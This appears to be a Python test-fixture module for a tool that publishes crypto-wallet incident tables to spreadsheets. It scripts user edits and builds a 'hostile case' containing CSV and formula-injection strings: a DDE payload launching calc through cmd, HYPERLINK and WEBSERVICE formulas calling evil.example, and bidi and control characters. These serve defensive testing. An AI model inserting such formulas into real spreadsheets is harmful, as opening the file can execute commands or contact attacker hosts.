"""What a person does in LibreOffice, from which tests/publish/libreoffice/ was made, and hostile tables for it."""

from pathlib import Path

import polars as pl

from exposure.case import Case
from exposure.incident import Incident
from exposure.tables import TABLES
from tests.publish.sheet_builder import (
    DRAINED,
    EXPOSED,
    MOVED,
    PARTLY,
    POSSIBLE,
    SAVEABLE,
    USDC,
    make_case,
    tables,
    wallets,
)

NEW = "0x52908400098527886e0f7030069857d2e4169ee7"
# Typed as at the keyboard, also what a program takes for a date, a number or a formula.
STORY = [
    ["type", SAVEABLE, "status", "At Risk"],
    ["type", SAVEABLE, "contacted_at", "2026-03-05 11:30"],
    ["type", SAVEABLE, "note", "3/4/2026"],
    ["type", DRAINED, "status", "Impacted"],
    ["type", DRAINED, "assigned_to", "007"],
    ["type", DRAINED, "note", "=1+1"],
    ["type", PARTLY, "note", "שלום 😀, \"calm\"; a,b"],
    ["type", MOVED, "harm", "moved_by_owner"],
    ["add", {"address": NEW.removeprefix("0x")}],
    ["add", {"address": "bob's wallet", "note": "told us on the phone"}],
    ["comment", EXPOSED, "status", "ask Ada first"],
    ["own", "phone list", [["who", "when", "number"], ["Ada", "2026-03-05", "0171 123"], ["Bob", "", "42"]]],
    ["sort", "p_exposed"],
    ["hide", POSSIBLE],
    ["move", "note", 1],
    ["remove", "covered"],
    ["rename", "War room"],
]  # fmt: skip
CSV_STORY = [
    ["type", SAVEABLE, "status", "Saved"],
    ["type", POSSIBLE, "note", "3/4/2026"],
    ["type", POSSIBLE, "owner_confirmed", "no"],
    ["add", {"address": NEW, "note": "by mail"}],
    ["sort", "verdict"],
]

HOSTILE = '=HYPERLINK("http://evil.example","free\u202e")\x07'


def hostile_case(folder: Path) -> tuple[Case, Incident]:
    """Write a case in which logs and token names hold formulas, links, control and bidi characters."""
    texts = [
        HOSTILE,
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1-2 http://evil.example",
        "-2+3",
        "\t=1+1",
        "\uff1d1+1",
        '=WEBSERVICE("http://evil.example")',
    ]
    rows = [
        row | {"not_covered": text, "lost": text, "actions": text} for row, text in zip(wallets(), texts, strict=True)
    ]
    tokens = tables()["tokens"].with_columns(
        pl.when(pl.col("token_address") == USDC).then(pl.lit(HOSTILE)).otherwise("symbol").alias("symbol")
    )
    return make_case(folder, wallets=TABLES["wallets"].frame(rows), tokens=tokens)
